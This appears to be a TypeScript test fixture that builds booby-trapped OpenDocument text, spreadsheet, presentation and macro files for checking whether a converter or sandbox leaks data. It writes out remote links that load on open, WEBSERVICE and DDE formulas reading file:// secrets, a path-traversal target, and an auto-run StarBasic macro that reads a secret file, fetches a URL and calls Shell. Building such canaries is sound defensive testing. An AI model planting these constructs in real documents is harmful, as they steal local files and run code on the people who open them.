import { odfOf } from "../samples/office-packages.ts";
import type { Bait } from "./canary.ts";

/** OpenDocument whose parts lie elsewhere, or that brings a program. */

const odfImage = (address: string) =>
  `<draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:image xlink:href="${address}" xlink:actuate="onLoad" xlink:show="embed"/></draw:frame>`;
const odfObject = (address: string) =>
  `<draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:object xlink:href="${address}" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:floating-frame xlink:href="${address}"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm" text:anchor-type="paragraph"><draw:plugin xlink:href="${address}"/></draw:frame>`;

/** Images, objects, frames, sections of other files, DDE. */
export function textDocument({ address, secret }: Bait): Buffer {
  const file = `file://${secret}`;
  const section = (name: string, target: string) =>
    `<text:section text:name="${name}"><text:section-source xlink:href="${target}" text:filter-name="Text"/><text:p>old</text:p></text:section>`;
  const dde = `<text:section text:name="d"><office:dde-source office:dde-application="soffice" office:dde-topic="${secret}" office:dde-item="a" office:automatic-update="true"/><text:p>old</text:p></text:section>`;
  const inside = [address, file, `../../neighbour/in/secret.txt`].map(
    (target) => `<text:p>${odfImage(target)}${odfObject(target)}</text:p>`,
  );
  return odfOf(
    "text",
    `<text:p>still</text:p>${inside.join("")}${section("a", `${address}/a.txt`)}${section("b", file)}${dde}`,
    {
      parts: [
        {
          name: "meta.xml",
          content: `<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:meta><meta:template xlink:href="${address}/t.ott"/><meta:auto-reload xlink:href="${address}/r" meta:delay="PT0S"/></office:meta></office:document-meta>`,
        },
      ],
    },
  );
}

/** WEBSERVICE, DDE, other tables and areas. */
export function spreadsheet({ address, secret }: Bait): Buffer {
  const cell = (formula: string) =>
    `<table:table-row><table:table-cell table:formula="of:=${formula}" office:value-type="string"><text:p>old</text:p></table:table-cell></table:table-row>`;
  const area = `<table:table-row><table:table-cell office:value-type="string"><table:cell-range-source table:name="A1" xlink:href="${address}/b.ods" table:last-column-spanned="1" table:last-row-spanned="1"/><text:p>still</text:p></table:table-cell></table:table-row>`;
  const formulas = [
    `WEBSERVICE(&quot;${address}/a&quot;)`,
    `WEBSERVICE(&quot;file://${secret}&quot;)`,
    `DDE(&quot;soffice&quot;;&quot;${secret}&quot;;&quot;a&quot;)`,
    `['file://${secret}'#$Sheet1.A1]`,
    `FILTERXML(WEBSERVICE(&quot;${address}/x&quot;);&quot;//a&quot;)`,
  ];
  return odfOf(
    "spreadsheet",
    `<table:table table:name="S">${area}${formulas.map(cell).join("")}</table:table><table:table table:name="L"><table:table-source xlink:href="${address}/c.csv" table:filter-name="Text - txt - csv (StarCalc)"/></table:table>`,
  );
}

export function presentation({ address, secret }: Bait): Buffer {
  const file = `file://${secret}`;
  return odfOf(
    "presentation",
    `<draw:page draw:name="p"><draw:frame svg:width="9cm" svg:height="3cm"><draw:text-box><text:p>still</text:p></draw:text-box></draw:frame>${odfImage(`${address}/a.png`)}${odfImage(file)}${odfObject(address)}${odfObject(file)}</draw:page>`,
  );
}

/** A macro that reads, asks, writes and runs, called at whatever happens first. */
export function macroDocument({ address, secret }: Bait): Buffer {
  const basic = `Sub Main\nDim s As String\nOpen "${secret}" For Input As #1\nLine Input #1, s\nThisComponent.Text.String = s\nCreateUnoService("com.sun.star.ucb.SimpleFileAccess").readFile("${address}/m")\nShell("touch /job/out/x")\nEnd Sub`;
  const module = `<?xml version="1.0"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" script:language="StarBasic">${basic.replaceAll('"', "&quot;")}</script:module>`;
  const library = (name: string, elements: string) =>
    `<?xml version="1.0"?><library:${name} xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"${elements}</library:${name}>`;
  const listeners = ["load", "load-finished", "view-created", "print"].map(
    (event) =>
      `<script:event-listener script:language="ooo:script" script:event-name="${event.includes("-") ? "office" : "dom"}:${event}" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>`,
  );
  return odfOf("text", "<text:p>still</text:p>", {
    before: `<office:scripts><office:event-listeners>${listeners.join("")}</office:event-listeners></office:scripts>`,
    parts: [
      { name: "Basic/Standard/M.xml", content: module },
      {
        name: "Basic/Standard/script-lb.xml",
        content: library("library", ` library:name="Standard"><library:element library:name="M"/>`),
      },
      {
        name: "Basic/script-lc.xml",
        content: library(
          "libraries",
          `><library:library library:name="Standard" library:link="false"/>`,
        ),
      },
    ],
  });
}
